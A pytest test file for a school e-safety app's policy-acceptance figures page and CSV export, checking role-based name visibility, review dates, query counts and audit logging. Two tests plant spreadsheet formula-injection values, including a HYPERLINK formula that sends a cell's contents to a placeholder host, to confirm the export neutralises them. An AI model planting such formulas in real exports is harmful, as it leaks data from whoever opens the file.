"""The acceptance figures page and its CSV: shares per audience, names only for those allowed."""

import csv
import datetime
import io

import pytest
import time_machine
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone

from esafety.people.models import Role
from policies.models import Audience
from policies.services.acceptances import (
    acceptance_cosign,
    acceptance_in_class,
    acceptance_record_own,
)
from policies.services.library import version_set_review_date
from tests.conftest import make_member
from tests.factories import PupilFactory
from tests.policies.conftest import publish_version, teach


def url(name: str, personas) -> str:
    return reverse(f"policies:{name}", args=[personas.school.code])


def figure(response, audience: str):
    figures = response.context["figures"]
    (found,) = [a for f in figures for a in f.audiences if a.audience == audience]
    return found


def csv_rows(response) -> list[list[str]]:
    assert response["Content-Type"].startswith("text/csv")
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))


@pytest.fixture
def staff_aup(personas, publish):
    """The staff AUP, accepted by the staff member and the office (2 of the 6 employed)."""
    version = publish([Audience.STAFF])
    for user, name in [(personas.staff, "Sam Staff"), (personas.office, "Ola Office")]:
        acceptance_record_own(actor=user, version=version, typed_name=name)
    return version


@pytest.mark.parametrize("who", ["online_safety_lead", "head", "dsl", "deputy_dsl"])
def test_it_shows_the_share_accepted_and_who_is_outstanding(personas, client_for, staff_aup, who):
    response = client_for(getattr(personas, who)).get(url("figures", personas))
    staff = figure(response, Audience.STAFF)
    assert (staff.accepted, staff.total, staff.percent) == (2, 6, 33)
    assert staff.outstanding == ["Dana Lead", "Dev Deputy", "Hal Head", "Olu Safety"]
    html = response.content.decode()
    assert "2 of 6 accepted (33%)" in html
    assert 'aria-valuenow="33"' in html and "pct-33" in html
    assert "Olu Safety" in html


@pytest.mark.parametrize("who", ["governor", "chair"])
def test_it_shows_governors_the_percentages_without_names(
    personas, client_for, staff_aup, children, publish, who
):
    pupils = publish([Audience.PUPILS_KS2], title="KS2 pupils' AUP")
    acceptance_cosign(
        actor=personas.parent, version=pupils, pupil=children[0], typed_name="Pat Parent"
    )
    response = client_for(getattr(personas, who)).get(url("figures", personas))
    assert response.status_code == 200
    assert response.context["with_names"] is False
    html = response.content.decode()
    assert "2 of 6 accepted (33%)" in html
    assert "1 of 2 accepted (50%)" in html
    for name in ("Olu Safety", "Hal Head", "Dana Lead", "Cleo", "Testchild"):
        assert name not in html
    # Governors do not open the library's version pages either.
    assert reverse("policies:version_detail", args=[personas.school.code, staff_aup.code]) not in (
        html
    )


def test_it_starts_again_from_nobody_when_a_new_version_is_published(
    personas, client_for, staff_aup
):
    v2 = publish_version(personas, staff_aup.policy, "2")
    response = client_for(personas.online_safety_lead).get(url("figures", personas))
    assert [f.version for f in response.context["figures"]] == [v2]
    staff = figure(response, Audience.STAFF)
    assert (staff.accepted, staff.total, staff.percent) == (0, 6, 0)
    assert len(staff.outstanding) == 6


def test_it_lists_reviews_due_in_30_days_and_overdue(personas, client_for, publish):
    start = timezone.now()
    with time_machine.travel(start, tick=False):
        soon = publish([Audience.STAFF], title="Staff AUP")
        late = publish([Audience.GOVERNORS], title="Governors' AUP")
        later = publish([Audience.PARENTS], title="Parents' AUP")
    version_set_review_date(
        actor=personas.head,
        version=later,
        next_review_due=later.next_review_due + datetime.timedelta(days=60),
    )
    version_set_review_date(
        actor=personas.head,
        version=late,
        next_review_due=late.next_review_due - datetime.timedelta(days=40),
    )
    # 20 days before the staff AUP's review: the governors' AUP is 20 days overdue.
    with time_machine.travel(
        datetime.datetime.combine(
            soon.next_review_due - datetime.timedelta(days=20), datetime.time(12), datetime.UTC
        ),
        tick=False,
    ):
        response = client_for(personas.governor).get(url("figures", personas))
    reviews = response.context["reviews"]
    assert reviews.due_soon == [soon]
    assert reviews.overdue == [late]
    html = response.content.decode()
    assert "Governors&#x27; AUP" in html and "was due" in html


def test_it_exports_names_for_the_roles_that_see_them(personas, client_for, staff_aup):
    response = client_for(personas.dsl).get(url("figures_csv", personas))
    rows = csv_rows(response)
    assert rows[0] == [
        "Policy",
        "Version",
        "Audience",
        "Accepted",
        "Total",
        "Percent accepted",
        "Outstanding",
    ]
    assert rows[1] == [
        "Staff AUP",
        "1",
        "Staff",
        "2",
        "6",
        "33",
        "Dana Lead; Dev Deputy; Hal Head; Olu Safety",
    ]
    assert "attachment" in response["Content-Disposition"]


def test_it_exports_counts_only_for_a_governor(personas, client_for, staff_aup):
    rows = csv_rows(client_for(personas.governor).get(url("figures_csv", personas)))
    assert rows == [
        ["Policy", "Version", "Audience", "Accepted", "Total", "Percent accepted"],
        ["Staff AUP", "1", "Staff", "2", "6", "33"],
    ]


def test_it_keeps_a_formula_typed_as_a_name_as_text_in_the_csv(personas, client_for, staff_aup):
    make_member(personas.school, Role.STAFF, "eve@oakfield.test", '=HYPERLINK("http://x")')
    rows = csv_rows(client_for(personas.head).get(url("figures_csv", personas)))
    assert rows[1][-1].startswith("'=HYPERLINK")


def test_it_keeps_a_formula_in_any_column_of_the_csv_as_text(personas, client_for, publish):
    # Not only the names: a policy title or version number is someone's typing too.
    publish([Audience.STAFF], title='=HYPERLINK("http://x?"&A1, "Open")', number="-1+2")
    rows = csv_rows(client_for(personas.head).get(url("figures_csv", personas)))
    assert rows[1][:3] == ['\'=HYPERLINK("http://x?"&A1, "Open")', "'-1+2", "Staff"]
    # The counts stay numbers a spreadsheet can add up.
    assert rows[1][3:6] == ["0", "6", "0"]


def _count(client, path: str) -> int:
    client.get(path)  # the first request writes the session's idle clock
    with CaptureQueriesContext(connection) as queries:
        assert client.get(path).status_code == 200
    return len(queries)


@pytest.mark.parametrize("name", ["figures", "figures_csv"])
@pytest.mark.parametrize("who", ["online_safety_lead", "governor"])
def test_it_runs_the_same_queries_for_a_small_and_a_larger_school(
    personas, client_for, publish, django_assert_num_queries, name, who
):
    client = client_for(getattr(personas, who))
    path = url(name, personas)
    staff = publish([Audience.STAFF], title="Staff AUP")
    pupils = publish([Audience.PUPILS_KS2, Audience.PUPILS_KS1], title="Pupils' AUP")
    small = _count(client, path)

    for n in range(15):
        user = make_member(personas.school, Role.STAFF, f"t{n}@oakfield.test", f"Teacher {n}")
        acceptance_record_own(actor=user, version=staff, typed_name=f"Teacher {n}")
    teacher = personas.staff
    kids = [PupilFactory(school=personas.school, year_group=f"Year {n % 6 + 1}") for n in range(20)]
    teach(teacher, *kids[:7])
    acceptance_in_class(actor=teacher, version=pupils, pupils=kids[:7])
    publish([Audience.PARENTS, Audience.VISITORS], title="Parents' AUP")

    with django_assert_num_queries(small):
        response = client.get(path)
    if name == "figures":
        assert len(response.context["figures"]) == 3
        assert figure(response, Audience.STAFF).total == 21


def test_it_audits_every_figures_export_and_whether_it_had_names(personas, client_for):
    from esafety.audit.models import AuditEvent

    client_for(personas.governor).get(f"/s/{personas.school.code}/policies/figures/csv/")
    client_for(personas.head).get(f"/s/{personas.school.code}/policies/figures/csv/")
    summaries = list(
        AuditEvent.objects.filter(action="export.policy_figures")
        .order_by("id")
        .values_list("actor__email", "summary")
    )
    assert summaries == [
        (personas.governor.email, "counts only"),
        (personas.head.email, "with names"),
    ]
